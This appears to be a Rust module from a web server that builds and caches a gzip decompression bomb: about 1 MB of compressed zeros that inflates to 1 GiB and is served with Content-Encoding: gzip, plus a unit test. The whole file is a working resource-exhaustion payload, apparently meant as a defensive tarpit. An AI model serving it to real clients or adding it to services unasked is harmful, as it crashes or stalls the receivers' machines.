//! A gzip bomb: one deflate segment of zeros, ended by a full flush so it stands alone, repeated
//! to about 1 GiB of output; built once (about 1 MB) and cached.

use std::sync::OnceLock;

use bytes::Bytes;
use flate2::{Compress, Compression, Crc, FlushCompress};

const SEGMENT_BYTES: usize = 1024 * 1024;
/// 1024 segments of 1 MiB: 1 GiB once inflated.
const SEGMENTS: usize = 1024;

/// The cached bomb (`Content-Encoding: gzip`).
pub(crate) fn gzip_bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| Bytes::from(build(SEGMENT_BYTES, SEGMENTS)))
        .clone()
}

/// The bytes a gzip member inflating to `segment_bytes * segments` zeros.
pub(crate) fn build(segment_bytes: usize, segments: usize) -> Vec<u8> {
    let zeros = vec![0_u8; segment_bytes];
    let mut compress = Compress::new(Compression::best(), false);
    let mut segment = Vec::new();
    // A full flush ends on a byte boundary with nothing referring back: the segment can
    // repeat. Output goes only into spare capacity, so grow it until the flush completes.
    for _ in 0..10_000 {
        segment.reserve(16 * 1024);
        let consumed = usize::try_from(compress.total_in()).unwrap_or(zeros.len());
        let input = zeros.get(consumed..).unwrap_or_default();
        if compress
            .compress_vec(input, &mut segment, FlushCompress::Full)
            .is_err()
        {
            break;
        }
        let all_in = usize::try_from(compress.total_in()).is_ok_and(|n| n == zeros.len());
        if all_in && segment.len() < segment.capacity() {
            break;
        }
    }
    let mut segment_crc = Crc::new();
    segment_crc.update(&zeros);
    let mut crc = Crc::new();
    let mut out = Vec::with_capacity(18 + segment.len() * segments + 8);
    // Header: magic, deflate, no flags, no time, max compression, unknown OS.
    out.extend_from_slice(&[0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0x02, 0xff]);
    for _ in 0..segments {
        out.extend_from_slice(&segment);
        crc.combine(&segment_crc);
    }
    // The final block: fixed Huffman, end-of-block only.
    out.extend_from_slice(&[0x03, 0x00]);
    out.extend_from_slice(&crc.sum().to_le_bytes());
    let size = (segment_bytes as u64).wrapping_mul(segments as u64) as u32;
    out.extend_from_slice(&size.to_le_bytes());
    out
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn small_bomb_inflates_exactly_and_checks_out() {
        let bomb = build(64 * 1024, 8);
        let mut inflated = Vec::new();
        flate2::read::GzDecoder::new(&bomb[..])
            .read_to_end(&mut inflated)
            .expect("a valid gzip member with a right CRC and size");
        assert_eq!(inflated.len(), 8 * 64 * 1024);
        assert!(inflated.iter().all(|b| *b == 0));
        assert!(bomb.len() < 8 * 1024, "compressed size {}", bomb.len());
    }
}
